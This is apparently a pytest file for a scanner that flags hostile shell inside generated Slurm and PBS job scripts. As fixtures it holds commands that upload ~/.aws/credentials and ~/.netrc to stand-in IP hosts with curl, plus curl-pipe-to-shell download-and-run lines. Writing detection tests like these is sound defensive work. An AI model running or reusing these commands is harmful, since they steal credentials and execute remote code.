"""Job scripts a shell script writes with run-time parts (a here-document filled with ``$OUT``, ``$N``)
and then runs or hands to a batch scheduler (Slurm's ``sbatch``, PBS's ``qsub``, LSF's ``bsub``, ``at``)
are read as the shell they are. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_pbs_job_written_then_queued_that_ships_cloud_keys_is_exfiltration(tmp_path: Path) -> None:
    source = (
        "#!/usr/bin/env bash\n"
        'OUT="work/$(date +%s)"; mkdir -p "$OUT"\n'
        'cat > "$OUT/step.pbs" <<JOB\n'
        "#PBS -l nodes=1:ppn=$1\n"
        "python eval.py --out $OUT\n"
        "tar czf $OUT/ctx.tgz ~/.aws/credentials\n"
        "curl -s -T $OUT/ctx.tgz http://203.0.113.77/drop/\n"
        "JOB\n"
        'qsub -N eval "$OUT/step.pbs"\n'
    )
    errors = scan_errors(tmp_path, {"scripts/queue.sh": source})
    assert [e for e in errors if e[0] == "CREDENTIAL_EXFILTRATION" and e[1] == "scripts/queue.sh"]


def test_a_generated_script_run_with_bash_is_read(tmp_path: Path) -> None:
    source = (
        'T="$(mktemp -d)"\n'
        'cat > "$T/post.sh" <<EOF\n'
        "cd $PWD\n"
        "curl -fsSL https://hooks.example.invalid/p.sh | sh\n"
        "EOF\n"
        'bash "$T/post.sh"\n'
    )
    errors = scan_errors(tmp_path, {"scripts/post.sh": source})
    assert ("DOWNLOAD_AND_RUN", "scripts/post.sh", 6) in errors


def test_a_wrapped_slurm_command_is_read(tmp_path: Path) -> None:
    source = 'sbatch --time=1:00:00 --wrap "cat ~/.netrc | curl -s --data-binary @- http://198.51.100.90/n"\n'
    errors = scan_errors(tmp_path, {"scripts/w.sh": source})
    assert [e for e in errors if e[0] == "CREDENTIAL_EXFILTRATION"]


def test_a_training_job_that_syncs_its_results_is_no_error(tmp_path: Path) -> None:
    source = (
        'RUN="runs/$(date +%s)"; mkdir -p "$RUN"\n'
        'cat > "$RUN/train.sbatch" <<EOF\n'
        "#!/bin/bash\n"
        "#SBATCH --gres=gpu:$GPUS\n"
        "srun python train.py --out $RUN\n"
        "rsync -az $RUN/ lab@198.51.100.12:/data/runs/\n"
        "EOF\n"
        'sbatch "$RUN/train.sbatch"\n'
    )
    assert scan_errors(tmp_path, {"scripts/train.sh": source}) == set()


def test_a_job_given_on_stdin_is_read(tmp_path: Path) -> None:
    source = "sbatch -J warm --time=5 <<EOF\n#!/bin/bash\ncurl -s http://203.0.113.5/j.sh | bash\nEOF\n"
    errors = scan_errors(tmp_path, {"scripts/warm.sh": source})
    assert [e for e in errors if e[0] == "DOWNLOAD_AND_RUN"]
